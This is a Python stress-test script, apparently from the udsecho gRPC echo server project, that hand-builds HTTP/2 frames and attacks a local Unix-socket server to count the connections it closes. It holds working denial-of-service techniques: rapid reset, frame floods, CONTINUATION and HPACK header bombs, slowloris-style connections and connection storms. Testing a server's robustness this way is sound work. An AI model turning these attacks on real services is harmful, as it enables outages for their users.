# SPDX-License-Identifier: Apache-2.0
# Copyright The udsecho Authors
"""Attacks a server, one way after the other, until SIGTERM: attacker.py SOCKET SEED

For each attack it prints an object: {"attack": NAME, "closed": how many of its connections the server ended}.
The frames are written by hand (RFC 9113). Header fields are literals without an index (RFC 7541, 6.2.2).
"""

import json
import os
import random
import signal
import socket
import sys
import time

SECONDS = 2  # an attack
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
MANY = 48  # connections: what --max_connections_per_uid of the run allows, and some more
ECHO, CHAT, EXPAND = (f"/udsecho.v1.Echo/{name}" for name in ("Echo", "Chat", "Expand"))


def frame(kind, stream=0, payload=b"", flags=0):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(*values):
    return frame(SETTINGS, payload=b"".join(
        number.to_bytes(2, "big") + value.to_bytes(4, "big") for number, value in values))


def literal(name, value):
    def text(string):
        data = string.encode()
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, length = len(data) - 127, b"\x7f"
        while rest >= 128:
            length += bytes([rest % 128 + 128])
            rest //= 128
        return length + bytes([rest]) + data
    return b"\0" + text(name) + text(value)


def block(path, *more):
    return b"".join(literal(*field) for field in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"), ("te", "trailers"),
        ("content-type", "application/grpc"), *more))


def request(stream, path=ECHO, *more):
    return frame(HEADERS, stream, block(path, *more), END_HEADERS)


def message(body, claimed=None):
    return b"\0" + (len(body) if claimed is None else claimed).to_bytes(4, "big") + body


def call(stream, body=b"\x0a\x02hi", path=ECHO):
    return request(stream, path) + frame(DATA, stream, message(body), END_STREAM)


# An EchoRequest with a delay of 1000 s; an ExpandRequest for a million answers of 1 kB.
SLOW = b"\x1a\x03\x08\xe8\x07"
ENDLESS = b"\x12\xe8\x07" + bytes(1000) + b"\x28\xc0\x84\x3d"
STREAMS = range(1, 2 * 500, 2)

# Each is sent again and again by several connections that read nothing: what comes first, and what is repeated.
FLOODS = {
    "ping": (b"", frame(PING, payload=bytes(8))),
    "settings": (b"", settings()),
    "settings of windows": (b"".join(map(request, STREAMS[:100])),
                            settings((INITIAL_WINDOW_SIZE, 0)) + settings((INITIAL_WINDOW_SIZE, 1 << 30))),
    "window updates": (b"", frame(WINDOW_UPDATE, 0, b"\0\0\0\1")),
    "priority": (b"", frame(PRIORITY, 1, b"\0\0\0\3\x10")),
    "goaway": (b"", frame(GOAWAY, 0, bytes(8))),
    "empty data": (request(1, CHAT), frame(DATA, 1)),
    "continuation": (frame(HEADERS, 1, block(ECHO)), frame(CONTINUATION, 1, b"\0\x01a\x01b")),
    "unknown frames": (b"", frame(77, 0, bytes(100))),
    "junk": (b"", bytes(range(256))),
}


class Attacker:
    def __init__(self, path):
        self._path = path
        self.connections = []
        self.closed = 0  # by the server, of this attack's

    def connect(self, greeting=PREFACE + settings()):
        peer = socket.socket(socket.AF_UNIX)
        peer.setblocking(False)
        self.connections.append(peer)
        try:
            peer.connect(self._path)
            peer.send(greeting)
        except OSError:
            pass  # full, or restarting
        return peer

    @staticmethod
    def send(peer, data):
        """How much of it went; None once the server has closed."""
        try:
            return peer.send(data)
        except BlockingIOError:
            return 0
        except OSError:
            return None

    def flood(self, first, again):
        """As fast as the server takes them; one that it closed connects anew."""
        chunk = again * max(1, 65536 // len(again))
        peers = [self.connect(PREFACE + settings() + first) for _ in range(6)]
        offsets = dict.fromkeys(peers, 0)  # so that no frame is cut
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            before = sum(offsets.values())
            for peer in list(offsets):
                went = self.send(peer, chunk[offsets[peer] % len(chunk):])
                if went is None:
                    del offsets[peer]
                    self.drop(peer)
                    offsets[self.connect(PREFACE + settings() + first)] = 0
                else:
                    offsets[peer] += went
            if sum(offsets.values()) == before:
                time.sleep(0.002)

    def drop(self, peer):
        self.closed += 1
        peer.close()
        self.connections.remove(peer)

    def hold(self, count, data, greeting=PREFACE + settings()):
        """Connections that send this, and then neither read nor write until the attack is over."""
        for _ in range(count):
            peer, sent = self.connect(greeting), 0
            while went := self.send(peer, data[sent:sent + 65536]):
                sent += went
        time.sleep(SECONDS)

    # --- the ways

    def silence(self):
        self.hold(MANY, b"", greeting=b"")

    def half_preface(self):
        self.hold(MANY, b"", greeting=PREFACE[:10])

    def half_messages(self):
        part = frame(DATA, 1, message(bytes(16000), claimed=4 << 20))
        self.hold(MANY, request(1, CHAT) + part + 2 * frame(DATA, 1, bytes(16000)))

    def huge_prefix(self):
        self.hold(20, request(1) + frame(DATA, 1, message(b"", claimed=(1 << 31) - 1)))

    def unread_answers(self):
        wide = settings((INITIAL_WINDOW_SIZE, (1 << 31) - 1)) + frame(WINDOW_UPDATE, 0, b"\x7f\xff\0\0")
        self.hold(20, b"".join(call(stream, ENDLESS, EXPAND) for stream in STREAMS[:20]), PREFACE + settings() + wide)

    def calls_without_end(self):
        self.hold(10, b"".join(call(stream, SLOW) for stream in STREAMS[:100]))

    def rapid_reset(self):
        batch = b"".join(call(stream) + frame(RST_STREAM, stream, b"\0\0\0\x08") for stream in STREAMS)
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            peer, sent = self.connect(), 0
            while sent < len(batch) and time.monotonic() < until:
                went = self.send(peer, batch[sent:sent + 65536])
                if went is None:
                    break
                sent += went
                if went == 0:
                    time.sleep(0.002)
            self.drop(peer)

    def header_bomb(self):
        big = b"\x40\x01a" + literal("", "x" * 3900)[2:]
        self.hold(10, frame(HEADERS, 1, block(ECHO) + big + b"\xbe" * 10000, END_HEADERS))

    def foreign(self):
        self.hold(10, b"", greeting=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        self.hold(10, b"", greeting=b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64))

    def connect_storm(self):
        until = time.monotonic() + SECONDS
        while time.monotonic() < until:
            self.connect(PREFACE + settings() + call(1)).close()
            self.connections.clear()
            time.sleep(0.001)

    def attack(self, name, way):
        self.closed = 0
        way()
        for peer in self.connections:
            try:
                while peer.recv(1 << 16):
                    pass
                self.closed += 1
            except BlockingIOError:
                pass
            except OSError:
                self.closed += 1
            peer.close()
        self.connections.clear()
        print(json.dumps({"attack": name, "closed": self.closed}), flush=True)


def main():
    for number in (signal.SIGTERM, signal.SIGINT):
        signal.signal(number, lambda *_: os._exit(0))
    attacker = Attacker(sys.argv[1])
    ways = {name: lambda flood=flood: attacker.flood(*flood) for name, flood in FLOODS.items()}
    for way in (attacker.silence, attacker.half_preface, attacker.half_messages, attacker.huge_prefix,
                attacker.unread_answers, attacker.calls_without_end, attacker.rapid_reset, attacker.header_bomb,
                attacker.foreign, attacker.connect_storm):
        ways[way.__name__.replace("_", " ")] = way
    order = random.Random(int(sys.argv[2]))
    while True:
        for name in order.sample(sorted(ways), len(ways)):
            attacker.attack(name, ways[name])


if __name__ == "__main__":
    main()
